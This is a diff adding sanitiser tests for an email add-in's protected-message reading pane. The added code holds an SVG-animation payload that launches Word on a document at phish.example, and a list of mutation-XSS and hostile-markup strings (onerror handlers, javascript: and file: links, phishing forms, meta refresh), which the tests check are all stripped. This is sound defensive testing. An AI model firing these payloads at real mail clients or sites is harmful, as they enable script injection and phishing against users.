@@ -46,7 +46,7 @@ test('alice checks a message: each finding with its category, place and the word
   assert.equal(await page.isVisible('#app'), false, 'no Word tabs in Outlook');
   await page.click('#check');
   const status = await waitStatus(page, /found|Nothing/);
-  assert.equal(status, '3 sensitive item(s) found. Remove these before sending, or protect the message.');
+  assert.equal(status, '3 sensitive items found. Remove these before sending, or protect the message.');
   const items = await page.$$eval('#findings li', (l) => l.map((e) => ({
     label: e.querySelector('strong').textContent,
     where: e.querySelector('.muted').textContent,
@@ -146,6 +146,107 @@ test('bob opens the protected message in his read pane; it shows as alice wrote 
   ]);
   assert.notEqual(await page.title(), 'owned');
   await page.screenshot({ path: join(SHOTS, '3-read-by-bob.png'), fullPage: true });
+  assert.deepEqual(problems, []);
+  await page.close();
+});
+
+// The attack the review ran: SVG animation sets an href with a non-web scheme on a link that
+// opens outside the frame; one click launched Word on a document of the sender's choosing.
+const SVG_LAUNCH = '<p>See the plan:</p><svg width="200" height="40"><a target="_blank">'
+  + '<set attributeName="href" to="ms-word:ofe|u|https://phish.example/plan.docx"/>'
+  + '<animate attributeName="href" values="ms-word:ofe|u|https://phish.example/plan.docx"/>'
+  + '<text x="4" y="20">Open the plan</text></a></svg>';
+
+test('the SVG animation that launched ms-word: is taken out; the pane says who owns the key', async () => {
+  const { page, problems } = await read(tokens.bob, await protectedForBob(HTML + SVG_LAUNCH));
+  await waitStatus(page, /Opened|cannot/);
+  const frame = await (await page.$('#message')).contentFrame();
+  await frame.waitForSelector('b');
+  assert.deepEqual(await frame.$$eval('svg, set, animate, text, a', (l) => l.map((e) => e.localName)), [], 'no SVG, no animation, no link left');
+  assert.match(await frame.textContent('body'), /See the plan:/);
+  assert.equal(await page.textContent('#message-owner'), 'Protected by alice@contoso.example (the owner of its key, as the key server knows them).');
+  assert.equal(await page.isVisible('#message-owner'), true);
+  await page.screenshot({ path: join(SHOTS, '4-svg-taken-out.png'), fullPage: true });
+  assert.deepEqual(problems, []);
+  await page.close();
+});
+
+// Mutation XSS: markup that a sanitizer passes and that becomes active when the browser parses
+// the sanitizer's output again (as the frame does). From public advisories against sanitizers.
+const MXSS = [
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
+  '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<a href="jav&#x09;ascript:alert(1)">tab</a><a href=" javascript:alert(1)">space</a><a href="JaVaScRiPt:alert(1)">case</a>',
+  '<a href="ms-word:ofe|u|https://phish.example/x.docx">word</a><a href="file:///etc/passwd">file</a><a href="data:text/html,<script>alert(1)</script>">data</a>',
+  '<a href="https://example.com/" target="_top" ping="https://tracker.example/">top</a>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">',
+  '<base href="https://phish.example/"><meta http-equiv="refresh" content="0;url=https://phish.example/"><link rel="stylesheet" href="https://tracker.example/a.css">',
+  '<form action="https://phish.example/"><input name="password"><button formaction="https://phish.example/">Sign in</button></form>',
+  '<img src=x onerror=alert(1)//',
+  '<div onclick="alert(1)" onmouseover="alert(1)">hover</div><details open ontoggle=alert(1)>',
+  '<template><script>alert(1)</script></template><noembed><img src=x onerror=alert(1)></noembed>',
+  '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
+  '<table><caption><svg><title><img src=x onerror=alert(1)></title></svg></caption></table>',
+];
+
+test('known mutation-XSS payloads leave nothing active, and a second pass changes nothing', async () => {
+  const { page, problems } = await read(tokens.bob, HTML);
+  const findings = await page.evaluate(async (payloads) => {
+    const { sanitized } = await import('/taskpane/sanitize.js');
+    const active = (html) => {
+      const doc = new DOMParser().parseFromString(html, 'text/html');
+      const found = [];
+      for (const el of doc.querySelectorAll('*')) {
+        if (/^(script|svg|math|iframe|frame|object|embed|form|input|button|base|meta|link|set|animate|template|noscript|noembed)$/.test(el.localName)) found.push(el.localName);
+        for (const { name, value } of el.attributes) {
+          if (name.startsWith('on') || ['srcdoc', 'formaction', 'action', 'ping', 'xlink:href'].includes(name)) found.push(`${el.localName}[${name}]`);
+          if (name === 'href' && !/^(https?|mailto):/i.test(value)) found.push(`href=${value}`);
+          if (name === 'target' && value !== '_blank') found.push(`target=${value}`);
+        }
+      }
+      return found;
+    };
+    return payloads.map((p) => {
+      const once = sanitized(p);
+      return { p, once, active: active(once), stable: sanitized(once) === once };
+    });
+  }, MXSS);
+  for (const { p, once, active, stable } of findings) {
+    assert.deepEqual(active, [], `${p}\n-> ${once}`);
+    assert.equal(stable, true, `${p}\n-> ${once}`);
+  }
+  // The link that stays opens outside, without a referrer; the rest keep their text.
+  const links = findings[11].once;
+  assert.match(links, /href="https:\/\/example.com\/"/);
+  assert.match(links, /target="_blank"/);
+  assert.match(links, /rel="noopener noreferrer"/);
+  assert.match(findings[9].once, /tab.*space.*case/);
+  assert.deepEqual(problems, []);
+  await page.close();
+});
+
+test('a web link opens as an ordinary page (why the frame lets popups leave its sandbox)', async () => {
+  const target = `${server.url}/healthz`;
+  const { page, problems } = await read(tokens.bob, await protectedForBob(`<p><a href="${target}">Service status</a></p>`));
+  await waitStatus(page, /Opened|cannot/);
+  const frame = await (await page.$('#message')).contentFrame();
+  const popup = page.waitForEvent('popup');
+  await frame.click('a');
+  const opened = await popup;
+  await opened.waitForLoadState();
+  assert.equal(opened.url(), target);
+  // Without allow-popups-to-escape-sandbox the page would run sandboxed: an opaque origin, no
+  // scripts, no storage, which breaks most sites a mail links to.
+  assert.equal(await opened.evaluate(() => window.origin), new URL(server.url).origin);
+  assert.equal(await opened.evaluate(() => window.opener), null, 'noopener');
+  await opened.close();
   assert.deepEqual(problems, []);
   await page.close();
 });
